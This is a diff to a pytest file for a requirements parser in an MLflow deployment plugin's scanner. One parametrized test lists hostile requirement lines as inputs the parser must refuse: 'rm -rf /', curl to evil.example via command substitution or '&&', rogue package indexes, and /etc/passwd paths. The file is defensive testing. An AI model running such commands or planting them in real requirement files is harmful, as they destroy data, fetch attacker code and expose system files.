@@ -9,7 +9,7 @@ import pytest
 
 from mlflow_tcdeploy_plugin.scan.policy import Ignore, Policy, evaluate, parse_ignore, parse_trivyignore
 from mlflow_tcdeploy_plugin.scan.report import ReportError, ScanReport, parse, table
-from mlflow_tcdeploy_plugin.scan.requirements import Pinned, from_files
+from mlflow_tcdeploy_plugin.scan.requirements import from_files
 
 TRIVY_JSON = json.dumps(
     {
@@ -57,58 +57,91 @@ def test_requirements_txt_with_includes_options_and_unscannables() -> None:
     files = {
         "requirements.txt": "--index-url https://pypi.example/simple\nmlflow-skinny==3.17.2\nScikit_Learn==1.9.1 ; "
         'python_version >= "3.10"  # comment\n-r extra.txt\n-c missing.txt\nnumpy>=1.26\n'
-        "./wheels/private-1.0-py3-none-any.whl\ngit+https://example/x.git\npkg @ https://x/p.whl\n",
+        "./wheels/private-1.0-py3-none-any.whl\ngit+https://example/x.git\npkg @ https://x/p.whl\n"
+        "-c constraints.txt\nscipy --hash=sha256:" + "0" * 64 + "\n",
         "extra.txt": "PyYAML==5.3\n",
+        "constraints.txt": "numpy<3\n",
         ".trivyignore": "CVE-1  # not reachable\n",
+        "python_env.yaml": "python: 3.11.7\n",
     }
-    deps = from_files(files)
-    assert deps.source == "requirements.txt"
-    assert set(deps.pinned) == {
-        Pinned("mlflow-skinny", "3.17.2"),
-        Pinned("scikit-learn", "1.9.1"),
-        Pinned("pyyaml", "5.3"),
-    }
-    reasons = {n.requirement: n.reason for n in deps.not_scanned}
+    reqs = from_files(files)
+    assert reqs.source == "requirements.txt" and reqs.python_version == "3.11.7"
+    assert reqs.requirements == [
+        "mlflow-skinny==3.17.2",
+        'Scikit_Learn==1.9.1; python_version >= "3.10"',
+        "PyYAML==5.3",
+        "numpy>=1.26",
+        "scipy",
+    ]
+    assert reqs.constraints == ["numpy<3"]
+    reasons = {n.requirement: n.reason for n in reqs.not_scanned}
+    assert "a model does not choose where packages come from" in reasons["--index-url https://pypi.example/simple"]
     assert reasons["-c missing.txt"] == "missing.txt is not a file of the model"
-    assert reasons["numpy>=1.26"].startswith("no pinned version")
     assert reasons["./wheels/private-1.0-py3-none-any.whl"] == "a local file or directory"
-    assert reasons["git+https://example/x.git"] == "installed from a URL"
+    assert reasons["git+https://example/x.git"].startswith("not a valid requirement")
     assert reasons["pkg @ https://x/p.whl"] == "installed from a URL"
-    assert deps.requirements_txt() == "mlflow-skinny==3.17.2\npyyaml==5.3\nscikit-learn==1.9.1\n"
-    assert deps.ignore_file.startswith("CVE-1")
+    assert reqs.ignore_file.startswith("CVE-1")
+    assert reqs.names() == {"mlflow-skinny", "scikit-learn", "pyyaml", "numpy", "scipy"}
+
+
+@pytest.mark.parametrize(
+    ("line", "reason"),
+    [
+        ("-i https://evil.example/simple", "a model does not choose"),
+        ("--extra-index-url=https://evil.example/simple", "a model does not choose"),
+        ("--find-links /tmp/wheels", "a model does not choose"),
+        ("--trusted-host evil.example", "a model does not choose"),
+        ("-e ./src", "an editable install"),
+        ("--pre", "not honoured"),
+        ("numpy; rm -rf /", "not a valid requirement"),
+        ("numpy`id`", "not a valid requirement"),
+        ("$(curl evil.example)", "not a valid requirement"),
+        ("numpy==1.0 && curl evil.example", "not a valid requirement"),
+        ("/etc/passwd", "a local file or directory"),
+        ("file:///etc/passwd", "a local file or directory"),
+        ("pkg @ file:///etc/passwd", "installed from a URL"),
+    ],
+)
+def test_hostile_lines_never_reach_the_resolver(line: str, reason: str) -> None:
+    reqs = from_files({"requirements.txt": f"pandas==2.0\n{line}\n"})
+    assert reqs.requirements == ["pandas==2.0"]
+    assert [(n.requirement, reason in n.reason) for n in reqs.not_scanned] == [(line, True)]
+
+
+def test_huge_files_and_include_loops_are_refused_whole() -> None:
+    huge = from_files({"requirements.txt": "numpy\n" * 60000})
+    assert huge.requirements == [] and "larger than the" in huge.not_scanned[0].reason
+    loop = from_files({"requirements.txt": "-r a.txt\n", "a.txt": "-r a.txt\nnumpy\n"})
+    assert loop.requirements == ["numpy"] and loop.not_scanned[0].reason == "a.txt includes itself"
 
 
 def test_conda_yaml_pip_section_and_conda_packages() -> None:
-    deps = from_files(
+    reqs = from_files(
         {
-            "conda.yaml": "channels: [conda-forge]\ndependencies:\n- python=3.11\n- pip<=24\n- numpy=1.26\n"
+            "conda.yaml": "channels: [conda-forge]\ndependencies:\n- python=3.11.4\n- pip<=24\n- numpy=1.26\n"
             "- pip:\n  - requests==2.19.0\n  - -r requirements-extra.txt\n"
         }
     )
-    assert deps.source == "conda.yaml" and deps.pinned == [Pinned("requests", "2.19.0")]
-    conda = [n.requirement for n in deps.not_scanned if "conda package" in n.reason]
-    assert conda == ["python=3.11", "numpy=1.26"]
-    assert any("requirements-extra.txt" in n.requirement for n in deps.not_scanned)
+    assert reqs.source == "conda.yaml" and reqs.requirements == ["requests==2.19.0"]
+    assert reqs.python_version == "3.11.4"
+    conda = [n.requirement for n in reqs.not_scanned if "conda package" in n.reason]
+    assert conda == ["numpy=1.26"]
+    assert any("requirements-extra.txt" in n.requirement for n in reqs.not_scanned)
 
 
-def test_python_env_yaml_and_nothing_at_all() -> None:
-    deps = from_files(
+def test_python_env_yaml_mlmodel_python_and_nothing_at_all() -> None:
+    reqs = from_files(
         {
             "python_env.yaml": "python: 3.11\nbuild_dependencies: [pip]\ndependencies:\n"
             "- -r requirements.txt\n- jinja2==2.10\n"
         }
     )
-    assert deps.source == "python_env.yaml" and deps.pinned == [Pinned("jinja2", "2.10")]
-    assert [n.requirement for n in deps.not_scanned] == ["-r requirements.txt"]
+    assert reqs.source == "python_env.yaml" and reqs.requirements == ["jinja2==2.10"]
+    assert [n.requirement for n in reqs.not_scanned] == ["-r requirements.txt"]
+    mlmodel = from_files({"MLmodel": "flavors:\n  python_function:\n    python_version: 3.10.14\n"})
+    assert mlmodel.python_version == "3.10.14"
     empty = from_files({})
-    assert empty.pinned == [] and "no requirements.txt" in empty.not_scanned[0].reason
-
-
-def test_same_requirements_give_the_same_digest() -> None:
-    a = from_files({"requirements.txt": "B==1\na==2\n"})
-    b = from_files({"requirements.txt": "# x\nA==2\nb==1\nb==1\n"})
-    assert a.digest() == b.digest()
-    assert a.digest() != from_files({"requirements.txt": "a==3\nb==1\n"}).digest()
+    assert empty.requirements == [] and "no requirements.txt" in empty.not_scanned[0].reason
 
 
 def test_report_parsing_counts_and_table() -> None:
